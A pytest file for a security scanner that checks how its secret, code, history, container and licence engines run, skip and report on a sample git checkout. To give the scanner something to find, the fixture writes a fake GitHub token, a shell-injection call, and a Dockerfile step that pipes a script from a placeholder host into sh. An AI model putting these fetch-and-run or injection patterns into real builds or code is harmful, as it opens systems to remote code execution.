"""All engines on one checkout: each is optional, each says how it ended, none takes another with it."""

from __future__ import annotations

import subprocess
from collections.abc import Collection
from importlib.metadata import PackageNotFoundError
from pathlib import Path

import pytest

from blocks.settings import Settings
from models.health_check import Checkout
from models.report import Skip
from models.scan import Engine, ScanSettings
from tasks.result_cache import ResultCache
from tasks.scan import leaks, modes, risky_code
from tasks.scan.look import Progress, look_at_home, scan_checkout
from tasks.scan.looked import Looked, together
from tests.programs import require
from tests.scan.corpus import SECRETS, Maker

TOKEN = SECRETS["GitHub"](Maker(1))
OF_CHECKOUTS = frozenset(Engine) - {Engine.services}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "app"
    root.mkdir()
    (root / "a.py").write_text(f"import subprocess\nsubprocess.run(input(), shell=True)\ntoken = '{TOKEN}'\n")
    (root / "Dockerfile").write_text("FROM python:latest\nRUN curl http://x.example/i.sh | sh\n")
    require("git")
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    return root


def commit(root: Path) -> None:
    identity = ["-c", "user.name=a", "-c", "user.email=a@b"]
    for words in (["add", "-A"], ["commit", "-qm", "one"]):
        subprocess.run(["git", "-C", str(root), *identity, *words], check=True)


async def scan(
    root: Path,
    engines: Collection[Engine] = OF_CHECKOUTS,
    *,
    home: Path | None = None,
    chosen: ScanSettings | None = None,
    progress: Progress | None = None,
) -> Looked:
    return await scan_checkout(
        Checkout(name="app", path=root),
        settings=Settings(home=home or root.parent / "home"),
        chosen=chosen or ScanSettings(),
        cache=ResultCache(None),
        engines=engines,
        progress=progress,
    )


def kinds(looked: Looked) -> set[str]:
    return {finding.key.partition(":")[0].removeprefix("security.") for finding in looked.findings}


async def test_every_engine_looks_says_how_it_ended_and_is_done_once(root: Path) -> None:
    done: list[str] = []

    async def told(words: str) -> None:
        done.append(words)

    looked = await scan(root, progress=told)
    assert {"secret", "code"} < kinds(looked)
    assert set(looked.engines) == {engine.value for engine in OF_CHECKOUTS}
    assert looked.engines["secrets"].startswith("detect-secrets ")
    assert looked.engines["code"].startswith("bandit ")
    assert sorted(done) == sorted(f"app: {engine.value}" for engine in OF_CHECKOUTS)


async def test_only_what_is_chosen_looks(root: Path) -> None:
    assert kinds(await scan(root, {Engine.code})) == {"code", "code_remarks"}
    commit(root)
    # Without a look at the files, what they hold is told of the history.
    assert kinds(await scan(root, {Engine.history})) == {"secret_history"}
    assert kinds(await scan(root, {Engine.history, Engine.secrets})) == {"secret"}
    assert await scan(root, set()) == together([Looked()])


async def test_an_engine_that_is_not_installed_is_a_skip_and_the_others_look(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def missing(name: str) -> str:
        raise PackageNotFoundError(name)

    monkeypatch.setattr(leaks, "version", missing)
    monkeypatch.setattr(risky_code, "version", missing)
    looked = await scan(root)
    assert "containers" in looked.engines
    for engine, key in (("secrets", "security.secret:app/x/1"), ("code", "security.code:app/x/B1")):
        assert "not installed" in looked.engines[engine]
        assert any(skip.may_hide(key) and "not installed" in skip.reason for skip in looked.skipped)


async def test_an_engine_that_breaks_is_a_skip_that_hides_anything_and_the_others_look(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(_: object) -> Looked:
        raise RuntimeError("it broke")

    monkeypatch.setattr(modes, "look_at_checkout", broken)
    looked = await scan(root, {Engine.modes, Engine.code})
    assert "code" in kinds(looked)
    assert looked.engines["modes"].startswith("did not run: modes failed (RuntimeError)")
    assert [skip.hides for skip in looked.skipped] == [()]


async def test_a_checkout_that_is_not_there_and_a_home_that_cannot_be_used_are_told(root: Path, tmp_path: Path) -> None:
    gone = await scan(tmp_path / "gone")
    assert gone.findings == ()
    assert gone.skipped[0].may_hide("security.secret:gone/x/1")
    (tmp_path / "file").write_text("x")
    closed = await scan(root, home=tmp_path / "file")
    for key in ("security.secret:app/a.py/1", "security.secret_history:app/1"):
        assert any(skip.may_hide(key) for skip in closed.skipped)
    assert "did not run" in closed.engines["history"]
    assert "code" in kinds(closed)


async def test_rules_that_cannot_be_used_are_told(root: Path, tmp_path: Path) -> None:
    looked = await scan_checkout(
        Checkout(name="app", path=root),
        settings=Settings(home=tmp_path / "home"),
        chosen=ScanSettings(rules=tmp_path / "none.toml"),
        cache=ResultCache(None),
        engines={Engine.rules},
    )
    assert "did not run" in looked.engines["rules"]
    assert [skip.hides for skip in looked.skipped] == [("security.rule:",)]


async def test_what_names_no_dependencies_has_no_licences_that_are_unseen(tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text("#!/bin/sh\nexec server\n")
    chosen = ScanSettings(licences_allowed=("MIT",))
    assert (await scan(tmp_path, {Engine.licences}, chosen=chosen)).skipped == ()
    (tmp_path / "pyproject.toml").write_text("[project\n")
    (skip,) = (await scan(tmp_path, {Engine.licences}, chosen=chosen)).skipped
    assert skip.may_hide("security.licence:app/pypi/a/LI002")


async def test_dependencies_that_are_unseen_are_told_only_where_there_are_licences_to_violate(root: Path) -> None:
    (root / "Dockerfile").write_text("FROM debian:13\nRUN apt-get install -y curl\n")
    assert (await scan(root, {Engine.licences})).skipped == ()
    for chosen in (ScanSettings(licences_allowed=("MIT",)), ScanSettings(licences_denied=("AGPL-*",))):
        skipped = (await scan(root, {Engine.licences}, chosen=chosen)).skipped
        assert any(skip.may_hide("security.licence:app/x/LI001") for skip in skipped)


async def test_the_home_is_looked_at_before_it_is_made(tmp_path: Path) -> None:
    home = tmp_path / "home"
    assert await look_at_home(Settings(home=home)) == Looked()
    assert not home.exists()
    home.mkdir(mode=0o755)
    assert kinds(await look_at_home(Settings(home=home))) == {"mode"}


def test_results_add_up() -> None:
    skip = Skip(area="security", component="x", reason="y")
    whole = together(
        [
            Looked(metrics={"a": 1.0}, engines={"code": "bandit 1"}),
            Looked(metrics={"a": 2.0, "b": 1.0}, engines={"code": "bandit 1", "rules": "3 rules"}),
            Looked(skipped=(skip,), engines={"code": "did not run: z"}),
        ]
    )
    assert whole.metrics == {"a": 3.0, "b": 1.0}
    assert whole.engines == {"code": "bandit 1; did not run: z", "rules": "3 rules"}
    assert whole.skipped == (skip,)
